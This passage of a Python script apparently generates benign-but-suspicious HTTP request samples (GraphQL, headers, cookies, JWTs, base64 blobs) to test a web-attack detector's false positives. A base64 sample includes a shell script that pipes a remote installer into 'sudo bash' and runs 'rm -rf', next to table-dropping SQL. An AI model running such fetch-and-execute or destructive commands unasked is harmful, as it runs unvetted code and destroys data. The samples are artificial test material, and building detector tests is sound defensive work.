        "query Node($id: ID!) { node(id: $id) { __typename id ... on Issue { title body } } }",
        {"id": "I_kwDOA" + alnum(10)},
    ),
    (
        'query { users(filter: {email: {endsWith: "@example.com"}, OR: [{role: ADMIN}, {role: OWNER}]}) { id email role } }',
        {},
    ),
    (
        "query Product($id: ID!) { product(id: $id) { descriptionHtml seo { title description } } }",
        {"id": "gid://shopify/Product/%d" % R.randint(10**9, 10**10)},
    ),
    ('query { __type(name: "Order") { name fields { name type { name kind } } } }', {}),
    ('query DocsSearch { search(term: "<script> tag", first: 10) { ... on Doc { id title url } } }', {}),
    ('query { users(where: {email: {_regex: "^[a-z]+@example\\\\.com$"}}) { id email } }', {}),
    ('query { orders(where: {status: {_in: ["paid", "refunded"]}}) { id status } }', {}),
    ('query { orders_aggregate(where: {created_at: {_gte: "2026-11-01"}}) { aggregate { count sum { total } } } }', {}),
    (
        'query Posts { posts(where: { AND: [{ published: true }, { title: { contains: "select" } }] }) { id title } }',
        {},
    ),
    ("query { __typename }", {}),
    ("query { __schema { directives { name locations args { name } } } }", {}),
    ("query Cart {\n  # TODO: drop legacy fields after v5\n  cart { id lines { sku } }\n}", {}),
    (
        "query Order($id: ID!) { order(id: $id) { id ... on DigitalOrder { downloadUrl } ... on PhysicalOrder { trackingNumber } } }",
        {"id": "ord_" + alnum(10)},
    ),
    ('query Script { scripts(filter: {name: "cron: rm old logs"}) { id schedule } }', {}),
    (
        "query Logs($q: String!) { logs(query: $q, last: 50) { ts level message } }",
        {"q": 'level:error AND message:"SQLSTATE"'},
    ),
]
GQL_HARD_VARS = [
    (
        "mutation AddComment($body: String!, $postId: ID!) { addComment(postId: $postId, body: $body) { id } }",
        "body",
        "<p>Looks good &amp; ships today</p>",
    ),
    (
        "mutation UpdateBio($bio: String!) { updateProfile(bio: $bio) { id } }",
        "bio",
        "DBA. I mostly write SELECT ... UNION ... queries for a living.",
    ),
    (
        "mutation CreateIssue($title: String!) { createIssue(title: $title) { id } }",
        "title",
        "Login page shows <script> in the title bar",
    ),
    (
        'mutation SaveSnippet($code: String!) { saveSnippet(lang: "bash", code: $code) { id } }',
        "code",
        'for f in *.log; do gzip "$f"; done',
    ),
    (
        'mutation SetTemplate($tpl: String!) { setEmailTemplate(name: "welcome", body: $tpl) { id } }',
        "tpl",
        "Hi {{ first_name }}, welcome aboard!",
    ),
    (
        "mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token expiresAt } }",
        "password",
        "p@ss'w0rd;2026",
    ),
    (
        "mutation CreateCustomer($name: String!) { customerCreate(input: {firstName: $name}) { customer { id } userErrors { field message } } }",
        "name",
        "D'Angelo",
    ),
    (
        'mutation Translate($text: String!) { translate(to: "de", text: $text) { text } }',
        "text",
        'Click <a href="/help">here</a> for help',
    ),
    (
        "mutation AddNote($text: String!) { addNote(text: $text) { id } }",
        "text",
        "Reminder: `DELETE FROM carts WHERE updated_at < now() - interval '30 days'` runs nightly",
    ),
    (
        'mutation Rename2($name: String!) { renameProject(id: "prj_77", name: $name) { id } }',
        "name",
        "Union & Select merger (2027)",
    ),
]


def gen_graphql():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        q, v = gql_soft(k)
        k += 1
        key = q
        if key in seen:
            continue
        seen.add(key)
        soft.append((q, v, None))
    hard = [(q, v, None) for q, v in GQL_HARD]
    hard += [(q, None, (vn, vv)) for q, vn, vv in GQL_HARD_VARS]
    hard = R.sample(hard, N_HARD)

    def plan(i, qv, h):
        q, v, var = qv
        op = (
            q.split("(")[0].split("{")[0].split()[-1]
            if q.split()[0] in ("query", "mutation", "subscription") and len(q.split("{")[0].split()) > 1
            else None
        )
        if var:
            vn, vv = var
            doc = {"query": q, "variables": {vn: SENT, "postId": "post_" + alnum(6)} if vn == "body" else {vn: SENT}}
            return I("j", vv, h, ctx=("POST", "/graphql"), doc=doc)
        if i % 5 == 4 and not q.startswith("mutation"):
            ex = [("variables", pct(cjson(v or {}), Q_SAFE))]
            if op:
                ex.insert(0, ("operationName", op))
            return I("q", q, h, ctx=("GET", "/graphql", "query"), extra_q=ex, qpos=len(ex))
        doc = {"query": SENT, "variables": v or {}}
        if op:
            doc = {"operationName": op, **doc}
        return I(
            "j", q, h, ctx=pick([("POST", "/graphql"), ("POST", "/api/graphql"), ("POST", "/v1/graphql")]), doc=doc
        )

    return spread(soft, hard, plan)


ITEMS["benign_graphql"] = gen_graphql()


# ---------------------------------------------------------------- benign_headers
def hdr_soft(k):
    c = [
        ("traceparent", "00-%s-%s-01" % (hexs(32), hexs(16))),
        ("X-B3-TraceId", hexs(32)),
        ("X-Amzn-Trace-Id", "Root=1-%s-%s" % (hexs(8), hexs(24))),
        ("If-None-Match", '"%s"' % hexs(20)),
        ("Cache-Control", pick(["no-cache", "max-age=0", "no-store"])),
        ("X-Client-Version", "web@4.%d.%d" % (R.randint(0, 20), R.randint(0, 9))),
        ("X-Timezone", pick(["Europe/Berlin", "America/New_York", "Asia/Singapore", "Australia/Sydney"])),
        ("sentry-trace", "%s-%s-1" % (hexs(32), hexs(16))),
        ("X-Correlation-ID", uuid4()),
        ("X-Api-Key", "pk_live_" + alnum(24)),
        ("Idempotency-Key", uuid4()),
        ("X-Device-Id", uuid4().upper()),
        ("X-App-Build", str(R.randint(7000, 7999))),
        ("Accept-Encoding", pick(["gzip, deflate, br, zstd", "gzip, deflate, br", "gzip"])),
        ("X-Tenant", pick(["acme-eu", "northwind-us", "globex-apac"]) + "-%d" % R.randint(1, 9)),
        ("X-Forwarded-Proto", "https"),
        ("X-GitHub-Api-Version", "2022-11-28"),
        ("Sec-Fetch-Site", pick(["same-origin", "same-site", "cross-site"])),
        ("X-Session-Replay", "off"),
        ("Priority", pick(["u=1, i", "u=0", "u=3"])),
        ("X-Envoy-Expected-Rq-Timeout-Ms", str(pick([5000, 15000, 30000]))),
        ("X-Locale", pick(["en-US", "de-DE", "fr-CA", "ja-JP"])),
        (
            "If-Modified-Since",
            "%s, %02d Nov 2026 %02d:%02d:00 GMT"
            % (pick(["Mon", "Tue", "Wed"]), R.randint(1, 28), R.randint(0, 23), R.randint(0, 59)),
        ),
    ]
    return c[k % len(c)]


def hdr_hard():
    return [
        ("Sec-CH-UA", '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
        ),
        ("Forwarded", 'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43'),
        ("X-Forwarded-For", "203.0.113.7, 10.0.0.12, 172.16.4.9"),
        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
        ("Signature-Input", 'sig1=("@method" "@target-uri" "content-digest");created=1796600000;keyid="test-key-rsa"'),
        ("Signature", "sig1=:%s:" % b64(rbytes(64))),
        ("Content-Digest", "sha-256=:%s:" % b64(rbytes(32))),
        ("X-Feature-Flags", '{"new_checkout":true,"beta_search":false}'),
        ("If-Match", 'W/"5e-%s"' % hexs(6)),
        ("Prefer", "return=representation; handling=strict"),
        ("Range", "bytes=0-1023, 4096-8191"),
        ("Referer", "https://www.google.com/search?q=select+union+fabric+sofa"),
        ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("X-HTTP-Method-Override", "PATCH"),
        ("Origin", "null"),
        (
            "Authorization",
            'Digest username="svc-backup", realm="api@ashgrove-legal.com", nonce="%s", uri="/api/v1/archive?since=2026-11-01", qop=auth, nc=00000001, cnonce="%s", response="%s", opaque="%s"'
            % (hexs(32), hexs(16), hexs(32), hexs(32)),
        ),
        (
            "Authorization",
            "AWS4-HMAC-SHA256 Credential=AKIA%s/20261207/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s"
            % (alnum(16).upper(), hexs(64)),
        ),
        ("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"),
        ("True-Client-IP", "2001:db8:85a3::8a2e:370:7334"),
        ("Accept-Language", "de-CH, de;q=0.9, fr-CH;q=0.8, en;q=0.5, *;q=0.3"),
        ("If-Range", '"%s"' % hexs(12)),
        ("Via", "1.1 varnish (Varnish/7.4), 1.1 d1a2b3c4.cloudfront.net (CloudFront)"),
        ("X-Client-Data", b64(rbytes(40))),
        ("Want-Content-Digest", "sha-256=10, sha-512=3"),
        (
            "Sec-CH-UA-Full-Version-List",
            '"Google Chrome";v="131.0.6778.86", "Chromium";v="131.0.6778.86", "Not_A Brand";v="24.0.0.0"',
        ),
        ("Sec-Purpose", "prefetch;prerender"),
        ("Accept", 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"'),
        ("X-Real-IP", "127.0.0.1"),
        ("X-Cloud-Trace-Context", "%s/%s;o=1" % (hexs(32), digits(19))),
        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE,vendor@tenant=%s" % hexs(8)),
        (
            "Referer",
            "https://docs.%s/guides/sql?section=union-vs-join#examples" % pick(["quillmetrics.net", "kindlepath.io"]),
        ),
        ("X-Search-Context", "q=o'neill boots;page=2;sort=price asc"),
        ("Authorization", "Basic " + b64("api:%s" % alnum(24))),
        ("X-Original-URL", "/en/products/boots?size=42&color=brown"),
        ("Content-Disposition", 'attachment; filename="report (final) -- Q4.pdf"'),
        ("X-Debug-Info", "build=8f3c2a1; node=web-3; region=eu-west-1"),
        ("Cookie2", '$Version="1"'),
    ]


def gen_headers():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        n, v = hdr_soft(k)
        k += 1
        if v not in seen:
            seen.add(v)
            soft.append((n, v))
    hh = hdr_hard()
    hard = [hh[i] for i in R.sample(range(len(hh)), N_HARD)]

    def plan(i, nv, h):
        n, v = nv
        return I(
            "h",
            v,
            h,
            name=n,
            kind="browser"
            if n in ("Referer", "Origin", "Sec-CH-UA", "Sec-Purpose", "Sec-Fetch-Site") or n.startswith("Sec-CH")
            else None,
        )

    return spread(soft, hard, plan)


ITEMS["benign_headers"] = gen_headers()


# ---------------------------------------------------------------- benign_cookies
def ck_soft(k):
    c = [
        ("sid", alnum(32)),
        ("theme", pick(["dark", "light", "system"]) + "-" + pick(["v1", "v2"])),
        ("locale", pick(["en-US", "de-DE", "fr-FR", "pt-BR"])),
        ("_ga", "GA1.1.%s.%d" % (digits(10), 1790000000 + R.randrange(6000000))),
        ("_gid", "GA1.1.%s.%d" % (digits(9), 1796000000 + R.randrange(600000))),
        ("csrftoken", alnum(32)),
        ("cart_count", str(R.randint(0, 12))),
        ("currency", pick(["EUR", "USD", "GBP", "JPY"])),
        ("tz", pick(["Europe/Berlin", "America/Chicago", "Asia/Tokyo"])),
        ("remember_me", pick(["1", "true"])),
        ("ab_bucket", pick(["A", "B", "control", "variant-2"])),
        ("last_seen", str(1796000000 + R.randrange(900000))),
        ("_fbp", "fb.1.%d.%s" % (1796000000000 + R.randrange(10**9), digits(10))),
        ("__stripe_mid", uuid4() + hexs(6)),
        ("ajs_anonymous_id", uuid4()),
        ("_gcl_au", "1.1.%s.%d" % (digits(10), 1796000000 + R.randrange(900000))),
        ("optimizelyEndUserId", "oeu%dr0.%s" % (1796000000000 + R.randrange(10**9), digits(16))),
        ("JSESSIONID", hexs(32).upper()),
        ("PHPSESSID", hexs(26)),
    ]
    return c[k % len(c)]


def ck_hard():
    return [
        (
            "CookieConsent",
            "{stamp:'%s',necessary:true,preferences:false,statistics:true,marketing:false,method:'explicit',ver:1,utc:%d,region:'de'}"
            % (b64(rbytes(24)), 1796600000000 + R.randrange(10**8)),
        ),
        (
            "OptanonConsent",
            "isGpcEnabled=0&datestamp=Mon Dec 07 2026 10:22:13 GMT+0100 (Central European Standard Time)&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1&hosts=&consentId=%s"
            % uuid4(),
        ),
        ("prefs", 'j:{"theme":"dark","density":"compact"}'),
        ("connect.sid", "s:%s.%s" % (alnum(32), b64(rbytes(32)).rstrip("="))),
        ("cart", b64(cjson({"items": [{"sku": "SKU-%d" % R.randint(1000, 9999), "qty": 2}], "coupon": None}))),
        ("redirect_to", "/admin/users?tab=roles"),
        ("last_search", "select dining chairs"),
        ("recently_viewed", "[1042,2291,7781]"),
        ("ajs_user_id", '"usr_%s"' % alnum(10)),
        ("wp-settings-1", "libraryContent=browse&editor=tinymce&hidetb=1&mfold=o"),
        ("AMCV_8F3C2A1B5E1D2A0B7F000101%40AdobeOrg", "-1124106680|MCIDTS|20431|MCMID|%s|vVersion|5.5.0" % digits(38)),
        ("_hjSessionUser_3071234", b64(cjson({"id": uuid4(), "created": 1796600000000, "existing": True}))),
        ("auth_redirect", "https://app.kindlepath.io/dashboard?from=login&tab=overview"),
        ("filters", '{"status":["open","pending"],"sort":"-updated"}'),
        ("XSRF-TOKEN", b64(rbytes(30)) + "=="[:0]),
        ("search_history", '["union square hotels","drop earrings","script fonts"]'),
        ("g_state", '{"i_l":0}'),
        ("__Host-next-auth.csrf-token", "%s|%s" % (hexs(64), hexs(64))),
        (
            "mp_%s_mixpanel" % hexs(32),
            '{"distinct_id":"$device:%s","$device_id":"%s","$initial_referrer":"$direct","$initial_referring_domain":"$direct"}'
            % (uuid4(), uuid4()),
        ),
        ("sp", b64u(cjson({"vid": uuid4(), "sess": 3}))),
        ("cf_clearance", "%s-%d-1.2.1.1-%s" % (alnum(43), 1796600000, alnum(60))),
        ("notice_dismissed", "holiday-hours-2026;shipping-delay"),
        ("ui_layout", "sidebar=collapsed; panels=left,right"),
        ("saved_query", 'status:open AND assignee:me OR label:"p1"'),
        ("lang_pref", "fr-CA,fr;q=0.9,en;q=0.8"),
        ("intercom-session-%s" % alnum(8).lower(), b64(rbytes(48))),
        ("pricing_calc", "seats=25&plan=pro&billing=annual"),
        ("user_display", "Siobhan O'Brien"),
        ("consent_v2", b64u(cjson({"ad_storage": "denied", "analytics_storage": "granted", "ts": 1796600000}))),
        ("last_path", "/docs/sql/select-union-examples"),
        ("ref", "https://www.google.com/search?q=drop+table+ikea"),
        ("_shopify_y", uuid4()),
        ("tmpl", "{{email}}-digest"),
        ("signup_step", '{"step":2,"company":"Smith & Sons Ltd."}'),
        ("draft_title", "<untitled>"),
        ("sort_pref", "price;desc|rating;desc"),
        ("oauth_state", b64u(cjson({"nonce": alnum(16), "return_to": "/settings/integrations?provider=github"}))),
        ("hl", "en_GB"),
    ]


def gen_cookies():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        n, v = ck_soft(k)
        k += 1
        if v not in seen:
            seen.add(v)
            soft.append((n, v))
    hh = ck_hard()
    hard = [hh[i] for i in R.sample(range(len(hh)), N_HARD)]

    def plan(i, nv, h):
        n, v = nv
        return I("c", v, h, name=n)

    return spread(soft, hard, plan)


ITEMS["benign_cookies"] = gen_cookies()


# ---------------------------------------------------------------- benign_jwt
def jwe():
    hdr = {"alg": pick(["RSA-OAEP-256", "ECDH-ES+A256KW"]), "enc": "A256GCM", "kid": hexs(16), "cty": "JWT"}
    return ".".join(
        [b64u(cjson(hdr)), b64u(rbytes(256)), b64u(rbytes(12)), b64u(rbytes(R.randint(300, 700))), b64u(rbytes(16))]
    )


def jwt_hard_values():
    host = pick(HOSTS)
    hasura = fake_jwt(
        host,
        {
            "https://hasura.io/jwt/claims": {
                "x-hasura-allowed-roles": ["user", "editor"],
                "x-hasura-default-role": "user",
                "x-hasura-user-id": str(R.randint(1000, 99999)),
            },
            "scope": "openid",
        },
    )
    google = lambda: fake_jwt(
        "accounts.google.com",
        {
            "iss": "https://accounts.google.com",
            "azp": "%s.apps.googleusercontent.com" % digits(12),
            "email": email_of(person()),
            "email_verified": True,
            "nonce": alnum(22),
            "picture": "https://lh3.googleusercontent.com/a/%s=s96-c" % alnum(30),
        },
        alg="RS256",
    )
    x5c_hdr = {"alg": "RS256", "typ": "JWT", "x5c": [b64(rbytes(700)), b64(rbytes(650))]}
    x5c = (
        b64u(cjson(x5c_hdr))
        + "."
        + b64u(cjson({"iss": "device-ca", "sub": "dev-%s" % hexs(8), "iat": 1796600000}))
        + "."
        + b64u(rbytes(256))
    )
    kidpath = (
        b64u(
            cjson(
                {
                    "alg": "RS256",
                    "typ": "JWT",
                    "kid": "projects/ravenmoor-prod/locations/global/keyRings/auth/cryptoKeys/jwt/cryptoKeyVersions/3",
                }
            )
        )
        + "."
        + b64u(
            cjson(
                {"sub": "svc-" + alnum(6), "aud": "https://api.ravenmoor.cloud", "iat": 1796600000, "exp": 1796603600}
            )
        )
        + "."
        + b64u(rbytes(256))
    )
    detached = b64u(cjson({"alg": "ES256", "b64": False, "crit": ["b64"], "kid": hexs(8)})) + ".." + b64u(rbytes(64))
    paseto = "v4.public." + b64u(
        cjson({"sub": "usr_" + alnum(8), "exp": "2026-12-08T10:00:00+00:00"}).encode() + rbytes(64)
    )
    alb = (
        b64(
            cjson(
                {
                    "typ": "JWT",
                    "kid": uuid4(),
                    "alg": "ES256",
                    "iss": "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_%s" % alnum(9),
                    "client": alnum(26).lower(),
                    "signer": "arn:aws:elasticloadbalancing:eu-west-1:%s:loadbalancer/app/web/%s"
                    % (digits(12), hexs(16)),
                    "exp": 1796603600,
                }
            )
        )
        + "."
        + b64(cjson({"sub": uuid4(), "email": email_of(person()), "username": alnum(10)}))
        + "."
        + b64u(rbytes(64))
    )
    return [
        ("h", "Authorization", "Bearer " + jwe()),
        ("h", "Authorization", "Bearer " + hasura),
        ("j", "id_token", google()),
        ("h", "X-Amzn-Oidc-Data", alb),
        (
            "h",
            "Cf-Access-Jwt-Assertion",
            fake_jwt(host, {"email": email_of(person()), "type": "app", "identity_nonce": alnum(16)}),
        ),
        (
            "h",
            "X-Goog-IAP-JWT-Assertion",
            fake_jwt("cloud.google.com", {"iss": "https://cloud.google.com/iap", "hd": "example.com"}, alg="ES256"),
        ),
        ("q", "access_token", fake_jwt(host)),
        ("q", "token", fake_jwt(host, {"purpose": "magic_link", "email": email_of(person())})),
        ("q", "id_token_hint", google()),
        ("q", "jwt", fake_jwt(host, {"room": "support-%d" % R.randint(1, 99), "moderator": False})),
        ("f", "assertion", fake_jwt(host, {"scope": "https://www.googleapis.com/auth/cloud-platform"})),
        ("f", "client_assertion", fake_jwt(host, {"jti": uuid4()})),
        ("f", "subject_token", fake_jwt(host, {"act": {"sub": "svc-gateway"}})),
        ("h", "Authorization", "Bearer " + x5c),
        ("h", "Authorization", "Bearer " + kidpath),
        ("h", "X-JWS-Signature", detached),
        ("h", "Authorization", "Bearer " + paseto),
        ("c", "__Secure-next-auth.session-token", jwe()),
        ("c", "id_token", google()),
        ("j", "refresh_token", jwe()),
        (
            "j",
            "logout_token",
            fake_jwt(host, {"events": {"http://schemas.openid.net/event/backchannel-logout": {}}, "sid": uuid4()}),
        ),
        (
            "j",
            "request",
            fake_jwt(
                host,
                {
                    "response_type": "code",
                    "redirect_uri": "https://app.%s/callback" % host.split(".", 1)[1],
                    "scope": "openid payments",
                },
            ),
        ),
        (
            "h",
            "DPoP",
            b64u(
                cjson(
                    {
                        "typ": "dpop+jwt",
                        "alg": "ES256",
                        "jwk": {"kty": "EC", "crv": "P-256", "x": b64u(rbytes(32)), "y": b64u(rbytes(32))},
                    }
                )
            )
            + "."
            + b64u(cjson({"jti": uuid4(), "htm": "POST", "htu": "https://%s/token" % host, "iat": 1796600000}))
            + "."
            + b64u(rbytes(64)),
        ),
        ("q", "state", fake_jwt(host, {"return_to": "/admin/billing?tab=invoices", "nonce": alnum(12)}, alg="HS256")),
        (
            "j",
            "vp_token",
            fake_jwt(
                host,
                {"vp": {"@context": ["https://www.w3.org/2018/credentials/v1"], "type": ["VerifiablePresentation"]}},
            ),
        ),
        ("c", "access_token", fake_jwt(host, {"roles": ["admin", "billing"], "org": "org_" + alnum(8)})),
        (
            "h",
            "Authorization",
            "Bearer "
            + fake_jwt(
                host, {"scope": "select:reports delete:drafts exec:jobs", "permissions": ["read:*", "write:drafts"]}
            ),
        ),
        ("j", "jwt", fake_jwt(host, {"nested": fake_jwt(host)})),
        ("h", "X-Forwarded-Access-Token", fake_jwt(host)),
        ("h", "Authorization", "DPoP " + fake_jwt(host, alg="ES256")),
        ("q", "ticket", jwe()),
        ("f", "id_token", google()),
        ("m", "token", fake_jwt(host)),
        (
            "h",
            "Authorization",
            "Bearer "
            + fake_jwt(
                host,
                {"groups": ["eng", "sre", "on-call"], "amr": ["pwd", "mfa"], "acr": "urn:mace:incommon:iap:silver"},
            ),
        ),
        ("c", "cognito_id", fake_jwt(host, {"cognito:username": alnum(10), "cognito:groups": ["admins"]})),
        ("j", "client_assertion", fake_jwt(host, {"jti": uuid4(), "aud": "https://%s/oauth2/token" % host})),
    ]


def jwt_soft_value(k):
    host = pick(HOSTS)
    opaque = pick(
        [
            "ya29.a0Af" + alnum(120),
            "gho_" + alnum(36),
            "xoxb-%s-%s-%s" % (digits(12), digits(13), alnum(24)),
            "EAAB" + alnum(150),
            "sl.B" + alnum(130),
            "pat_" + alnum(40),
        ]
    )
    c = [
        ("h", "Authorization", "Bearer " + fake_jwt(host)),
        ("j", "refresh_token", fake_jwt(host)),
        ("j", "access_token", fake_jwt(host)),
        ("c", "access_token", fake_jwt(host)),
        ("h", "Authorization", "Bearer " + opaque),
        ("j", "id_token", fake_jwt(host, {"email": email_of(person()), "name": person()})),
        ("f", "refresh_token", fake_jwt(host)),
        ("h", "Authorization", "Bearer " + fake_jwt(host, alg="HS256")),
    ]
    return c[k % len(c)]


def jwt_item(pl, name, v, h):
    if pl == "h":
        return I("h", v, h, name=name, kind=pick(["client", "app"]))
    if pl == "j":
        return I(
            "j",
            v,
            h,
            ctx=pick([("POST", "/oauth/token"), ("POST", "/api/v1/auth/session"), ("POST", "/api/v1/auth/refresh")]),
            doc={
                "grant_type": "refresh_token"
                if name == "refresh_token"
                else "urn:ietf:params:oauth:grant-type:token-exchange",
                name: SENT,
                "client_id": "web-" + hexs(8),
            },
        )
    if pl == "q":
        return I(
            "q",
            v,
            h,
            ctx=pick(
                [
                    ("GET", "/ws/notifications", name),
                    ("GET", "/auth/magic", name),
                    ("GET", "/oidc/logout", name),
                    ("GET", "/embed/room", name),
                ]
            ),
        )
    if pl == "f":
        extras = [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"), ("client_id", "svc-" + hexs(6))]
        return I("f", v, h, ctx=("POST", "/oauth2/token", name, extras), kind="client")
    if pl == "m":
        return I("m", v, h, ctx=("POST", "/api/v1/uploads/signed", name, "text", [("folder", "receipts")]))
    return I("c", v, h, name=name)


def gen_jwt():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        pl, name, v = jwt_soft_value(k)
        k += 1
        if v not in seen:
            seen.add(v)
            soft.append(jwt_item(pl, name, v, False))
    hv = jwt_hard_values()
    hard = [jwt_item(pl, name, v, True) for pl, name, v in [hv[i] for i in R.sample(range(len(hv)), N_HARD)]]
    return soft + hard


ITEMS["benign_jwt"] = gen_jwt()

# ---------------------------------------------------------------- benign_base64
MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "gzip": b"\x1f\x8b\x08\x00",
    "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    "zip": b"PK\x03\x04\x14\x00",
}


def b64_soft(k):
    kind = pick(list(MAGIC))
    blob = b64(MAGIC[kind] + rbytes(R.randint(40, 400)))
    c = [
        ("j", ("POST", "/api/v1/users/me/avatar"), {"filename": "avatar.%s" % kind, "content_base64": SENT}, blob),
        (
            "j",
            ("POST", "/v3/mail/send"),
            {
                "personalizations": [{"to": [{"email": email_of(person())}]}],
                "subject": "Your invoice",
                "attachments": [{"content": SENT, "type": "application/pdf", "filename": "invoice.pdf"}],
            },
            b64(MAGIC["pdf"] + rbytes(300)),
        ),
        (
            "j",
            ("POST", "/api/v1/telemetry/batch"),
            {"encoding": "protobuf", "payload": SENT},
            b64(b"\x0a\x24" + uuid4().encode() + b"\x12\x08" + rbytes(R.randint(40, 200))),
        ),
        (
            "j",
            ("PUT", "/api/v1/vault/items/itm_%s" % alnum(8)),
            {"ciphertext": SENT, "iv": b64(rbytes(12)), "alg": "A256GCM"},
            b64(rbytes(R.randint(64, 512))),
        ),
        ("q", ("GET", "/oauth/callback", "state"), None, b64u(cjson({"r": "/dashboard", "n": alnum(12)}))),
        (
            "q",
            ("GET", "/t/open.gif", "d"),
            None,
            b64u(cjson({"e": "email_open", "cid": "cmp_" + alnum(8), "u": digits(8)})),
        ),
        ("c", "session_data", None, b64(rbytes(R.randint(24, 90)))),
        ("h", "X-Signature", None, b64(rbytes(32))),
    ]
    return c[k % len(c)]


def b64_hard():
    sh = "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs\nrm -rf /tmp/build-cache\n"
    sql = "-- 0043_drop_legacy.sql\nDROP TABLE IF EXISTS legacy_sessions;\nALTER TABLE users DROP COLUMN password_md5;\nSELECT 1 UNION SELECT 2;\n"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#e11d48"/></svg>'
    html = "<!doctype html><html><body><h1>Invoice %d</h1><script>window.print()</script></body></html>" % R.randint(
        1000, 9999
    )
    pem = (
        "-----BEGIN CERTIFICATE-----\n" + "\n".join(b64(rbytes(48)) for _ in range(8)) + "\n-----END CERTIFICATE-----\n"
    )
    return [
        (
            "j",
            ("PUT", "/repos/acme/infra/contents/scripts/bootstrap.sh"),
            {"message": "Add bootstrap script", "content": SENT, "branch": "main"},
            b64(sh),
        ),
        (
            "j",
            ("PUT", "/repos/acme/api/contents/migrations/0043_drop_legacy.sql"),
            {"message": "Drop legacy tables", "content": SENT},
            b64(sql),
        ),
        (
            "f",
            ("POST", "/account/avatar", "avatar_data", [("crop", "1:1")]),
            None,
            "data:image/svg+xml;base64," + b64(svg),
        ),
        (
            "j",
            ("POST", "/api/v1/icons"),
            {"name": "warning", "data_url": SENT},
            "data:image/svg+xml;base64," + b64(svg.replace("e11d48", "f59e0b")),
        ),
        (
            "j",
            ("POST", "/v3/mail/send"),
            {"subject": "Invoice", "attachments": [{"content": SENT, "type": "text/html", "filename": "invoice.html"}]},
            b64(html),
        ),
        ("j", ("POST", "/api/v1/tls/certificates"), {"name": "shop-edge", "certificate": SENT}, pem),
        ("j", ("POST", "/api/v1/tls/certificates/bundle"), {"name": "bundle", "pem_base64": SENT}, b64(pem)),
        (
            "q",
            ("GET", "/share", "payload"),
            None,
            b64u(cjson({"url": "https://www.mintbarrow.io/p/boots?ref=share&utm_source=wa", "title": "Boots <3"})),
        ),
        (
            "q",
            ("GET", "/oauth/callback", "state"),
            None,
            b64(cjson({"return_to": "/admin/users?tab=roles", "nonce": alnum(10)})),
        ),
        ("h", "X-Client-Data", None, b64(rbytes(60))),
        ("h", "Digest", None, "sha-256=" + b64(rbytes(32))),
        (
            "c",
            "cart",
            None,
            b64(
                cjson(
                    {
                        "items": [{"sku": "SKU-1042", "name": "Kids' rain jacket", "qty": 1}],
                        "note": "gift -- no invoice",
                    }
                )
            ),
        ),
        (
            "j",
            ("POST", "/api/v1/images"),
            {"filename": "scan.png", "data": SENT},
            "data:image/png;base64," + b64(MAGIC["png"] + rbytes(300)),
        ),
        (
            "j",
            ("POST", "/api/v1/kms/decrypt"),
            {"key_id": "alias/app", "ciphertext_blob": SENT},
            b64(b"\x01\x02\x02\x00x" + rbytes(180)),
        ),
        (
            "j",
            ("POST", "/api/v1/webauthn/register"),
            {
                "id": b64u(rbytes(32)),
                "response": {
                    "attestationObject": SENT,
                    "clientDataJSON": b64u(
                        cjson(
                            {
                                "type": "webauthn.create",
                                "challenge": b64u(rbytes(32)),
                                "origin": "https://app.kindlepath.io",
                            }
                        )
                    ),
                },
            },
            b64u(b"\xa3cfmtdnonegattStmt\xa0hauthData" + rbytes(160)),
        ),
        ("j", ("POST", "/api/v2/documents"), {"name": "contract.pdf", "file": SENT}, b64(MAGIC["pdf"] + rbytes(500))),
        (
            "f",
            ("POST", "/saml/acs", "SAMLResponse", [("RelayState", "/dashboard")]),
            None,
            b64(
                '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/></samlp:Response>'
                % hexs(20)
            ),
        ),
        (
            "j",
            ("POST", "/api/v1/k8s/secrets"),
            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db-creds"}, "data": {"password": SENT}},
            b64("S3cure'Pass;2026"),
        ),
        (
            "j",
            ("PUT", "/repos/acme/web/contents/public/index.html"),
            {"message": "Update landing page", "content": SENT},
            b64(html.replace("Invoice", "Welcome")),
        ),
        (
            "q",
            ("GET", "/api/v1/reports/render", "spec"),
            None,
            b64u(cjson({"sql": "select region, sum(total) from orders group by 1", "chart": "bar"})),
        ),
        ("j", ("POST", "/api/v1/firmware/chunks"), {"seq": R.randint(1, 90), "chunk": SENT}, b64(rbytes(600))),
        ("h", "Authorization", None, "Basic " + b64("deploy:%s+/==" % alnum(20))),
        ("c", "sess", None, b64(rbytes(45)).replace("=", "") + "=="),
        (
            "j",
            ("POST", "/api/v1/ssh-keys"),
            {"title": "laptop", "key": SENT},
            "ssh-ed25519 " + b64(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + rbytes(32)) + " jdoe@laptop",
        ),
        (
            "j",
